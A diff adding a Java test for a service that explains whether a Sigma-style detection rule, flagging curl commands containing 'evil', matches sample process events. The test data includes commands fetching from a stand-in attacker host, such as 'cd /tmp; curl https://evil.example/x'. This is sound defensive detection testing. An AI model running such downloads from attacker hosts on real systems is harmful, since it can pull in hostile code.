@@ -70,6 +70,26 @@ class RuleExplanationTest {
     }
 
     @Test
+    void aRuleForAPublicLogSourceIsExplainedByTheCommandThatItHoldsFor() {
+        String yaml =
+                """
+                title: Fetch
+                logsource: {product: linux, category: process_creation}
+                detection:
+                  sel: {Image|endswith: /curl, CommandLine|contains: evil}
+                  condition: sel
+                """;
+
+        explain(Map.of("yaml", yaml, "event", event("shell_exec", "cd /tmp; curl https://evil.example/x")))
+                .statusCode(200)
+                .body("holds", equalTo(true))
+                .body("steps.parts[0].asked", equalTo("is shell_exec"));
+        explain(Map.of("yaml", yaml, "event", event("shell_exec", "curl x; echo evil")))
+                .statusCode(200)
+                .body("holds", equalTo(false));
+    }
+
+    @Test
     void anEventOfAnotherKindFailsAtTheLogSource() {
         explain(Map.of("yaml", DRAFT, "event", event("prompt", "curl https://evil.example/x")))
                 .statusCode(200)
